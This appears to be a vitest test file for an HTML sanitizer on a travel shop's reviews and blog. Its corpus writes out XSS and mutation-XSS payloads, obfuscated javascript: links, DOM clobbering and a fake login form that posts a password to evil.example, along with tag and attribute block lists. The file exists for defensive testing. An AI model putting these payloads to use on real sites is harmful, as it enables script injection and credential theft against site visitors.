import { describe, expect, it } from 'vitest';
import { type HtmlPolicy, sanitizeHtml } from './sanitize-html';

/** A review written to take over the page: covers the page, restyles the shop, posts the password away, loads a tracker. */
const TAKEOVER =
  '<div style="position:fixed;inset:0;background:#fff;z-index:9999"><form action="https://evil.example/steal" method=post><input name=password type=password><button>Log in</button></form></div><style>body{outline:9px solid red}</style><img src="https://evil.example/t.png">';

/** What a page must never receive, whoever wrote the HTML. */
const NEVER_TAGS =
  'script,style,form,input,button,select,textarea,iframe,object,embed,meta,base,link,svg,math,template,noscript,video,audio';
const NEVER_ATTRIBUTES = /^(on|style$|id$|name$|class$|srcset$|formaction$|action$|data-|aria-|http-equiv$|poster$)/;
const SAFE_URL = /^(https?:|mailto:|\/|\.|#|\?|[a-z0-9-]+(\/|$))/i;

function parse(html: string): HTMLTemplateElement {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template;
}

function expectHarmless(clean: string, policy: HtmlPolicy) {
  const elements = [...parse(clean).content.querySelectorAll('*')];
  expect(parse(clean).content.querySelector(NEVER_TAGS), clean).toBeNull();
  for (const element of elements) {
    for (const { name, value } of element.attributes) {
      expect(name, clean).not.toMatch(NEVER_ATTRIBUTES);
      if (name === 'href' || name === 'src') expect(value, clean).toMatch(SAFE_URL);
    }
    if (element.getAttribute('target') === '_blank') expect(element.getAttribute('rel'), clean).toBe('noopener noreferrer');
  }
  if (policy === 'user') {
    expect(parse(clean).content.querySelector('a,img,h1,h2,table,div'), clean).toBeNull();
    expect(elements.filter((element) => element.attributes.length > 0).map((element) => element.outerHTML)).toEqual([]);
  }
}

/** [name, hostile HTML, what the user policy makes of it, what the editorial policy makes of it]. */
const CORPUS: [string, string, string, string][] = [
  ['the takeover review', TAKEOVER, '', '<div></div><img src="https://evil.example/t.png" alt="">'],
  ['a script', '<p>hi</p><script>window.__xss=1</script>', '<p>hi</p>', '<p>hi</p>'],
  ['an onerror picture', '<img src=x onerror="window.__xss=1">', '', '<img src="x" alt="">'],
  ['a javascript: link', '<a href="javascript:alert(1)">x</a>', 'x', '<a>x</a>'],
  ['a javascript: link hidden by case and tabs', '<a href=" JaVa&#x09;ScRiPt:alert(1)">x</a>', 'x', '<a>x</a>'],
  ['a data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', 'x', '<a>x</a>'],
  ['a data: picture', '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="a">', '', '<img alt="a">'],
  ['a script in svg', '<svg><script>window.__xss=1</script></svg><p>ok</p>', '<p>ok</p>', '<p>ok</p>'],
  ['an svg onload', '<svg onload="window.__xss=1"><circle r="9"/></svg>', '', ''],
  [
    'math mXSS',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    '',
    '',
  ],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<p></p>', '<p></p>'],
  ['a style element', '<style>body{outline:9px solid red}</style><p>x</p>', '<p>x</p>', '<p>x</p>'],
  ['a fixed style attribute', '<p style="position:fixed;inset:0;z-index:9999">cover</p>', '<p>cover</p>', '<p>cover</p>'],
  ['a form posting away', '<form action="https://evil.example/steal"><input name="password" type="password"></form>', '', ''],
  ['an autofocus input', '<input autofocus onfocus="window.__xss=1">', '', ''],
  ['a button with formaction', '<button formaction="https://evil.example/steal">Go</button>', '', ''],
  ['a select and a textarea', '<select><option>Card number</option></select><textarea>PIN</textarea>', '', ''],
  ['an iframe', '<iframe src="https://evil.example/"></iframe>', '', ''],
  ['an object', '<object data="https://evil.example/x.swf">fallback</object>', '', ''],
  ['an embed', '<embed src="https://evil.example/x.swf">', '', ''],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '', ''],
  ['a base href', '<base href="https://evil.example/">', '', ''],
  ['a stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css">', '', ''],
  [
    'id and name clobbering',
    '<img id="location" name="cookie" src="/a.svg"><a id="token" name="token" href="/x">t</a>',
    't',
    '<img src="/a.svg" alt=""><a href="/x" rel="noopener noreferrer">t</a>',
  ],
  ['class, data- and aria- attributes', '<p class="mantine-Overlay-root" data-x="1" aria-hidden="true">p</p>', '<p>p</p>', '<p>p</p>'],
  ['a template', '<template><img src=x onerror="window.__xss=1"></template>', '', ''],
  ['a details ontoggle', '<details open ontoggle="window.__xss=1"><summary>s</summary></details>', 's', 's'],
  ['a video with a poster', '<video src="https://evil.example/v.mp4" poster="https://evil.example/t.png"></video>', '', ''],
  ['srcset on a picture', '<img src="/media/x.svg" srcset="https://evil.example/t.png 2x">', '', '<img src="/media/x.svg" alt="">'],
  [
    'a new-tab link without rel',
    '<a target="_blank" href="https://evil.example/">go</a>',
    'go',
    '<a href="https://evil.example/" rel="noopener noreferrer" target="_blank">go</a>',
  ],
];

describe.each(['user', 'editorial'] as const)('the %s policy', (policy) => {
  it.each(CORPUS)('neutralises %s', (_name, hostile, user, editorial) => {
    const clean = sanitizeHtml(hostile, policy);
    expect(clean).toBe(policy === 'user' ? user : editorial);
    expectHarmless(clean, policy);
  });

  it('treats a missing text as empty', () => {
    expect(sanitizeHtml(null, policy)).toBe('');
    expect(sanitizeHtml(undefined, policy)).toBe('');
  });
});

describe('what each policy keeps', () => {
  it('keeps text formatting in a review', () => {
    const review =
      '<p>Great <b>guide</b>, <i>lovely</i> <u>day</u><br>Would <s>not</s> book again.</p><ul><li>one</li></ul><blockquote>q</blockquote>';
    expect(sanitizeHtml(review, 'user')).toBe(review);
  });

  it('keeps the text of links, pictures and headings in a review but not the elements', () => {
    expect(sanitizeHtml('<h2>Title</h2><a href="/x">my blog</a><img src="/media/x.svg" alt="me">', 'user')).toBe('Titlemy blog');
  });

  it('keeps headings, tables, figures, pictures and safe links in editorial texts', () => {
    const article =
      '<h2>Terms</h2><table><thead><tr><th scope="col">Fee</th></tr></thead><tbody><tr><td colspan="2">5</td></tr></tbody></table>' +
      '<figure><img src="/media/x.svg" alt="Map"><figcaption>Map</figcaption></figure>' +
      '<p><a href="/x" rel="noopener noreferrer">x</a> <a href="mailto:hello@tours.test" rel="noopener noreferrer">mail</a></p>';
    expect(sanitizeHtml(article, 'editorial')).toBe(article);
  });

  it('keeps the seeded blog text as it is', () => {
    const blog = '<h2>Paris like a local</h2><p>Walk.</p><p><img src="/media/blogs/3-2.svg" alt="Paris"></p>';
    expect(sanitizeHtml(blog, 'editorial')).toBe(blog);
  });

  it('keeps a link to this shop in the same tab and sends other sites to a new one', () => {
    const own = `${window.location.origin}/Blog`;
    expect(sanitizeHtml(`<a href="${own}">blog</a>`, 'editorial')).toBe(`<a href="${own}" rel="noopener noreferrer">blog</a>`);
    expect(sanitizeHtml('<a href="https://example.com/maps">maps</a>', 'editorial')).toContain('target="_blank"');
  });

  it('marks pictures without alt text as decorative and keeps a given alt', () => {
    expect(sanitizeHtml('<img src="/a.svg" alt="The Bund at night">', 'editorial')).toBe('<img src="/a.svg" alt="The Bund at night">');
    expect(sanitizeHtml('<img src="/a.svg">', 'editorial')).toBe('<img src="/a.svg" alt="">');
  });

  it("keeps a picture's width and height in editorial texts, so its box is there before it loads, and drops them in a review", () => {
    expect(sanitizeHtml('<img src="/a.svg" alt="" width="800" height="600">', 'editorial')).toBe(
      '<img src="/a.svg" alt="" width="800" height="600">',
    );
    expect(sanitizeHtml('<p width="800">text</p>', 'user')).toBe('<p>text</p>');
  });
});
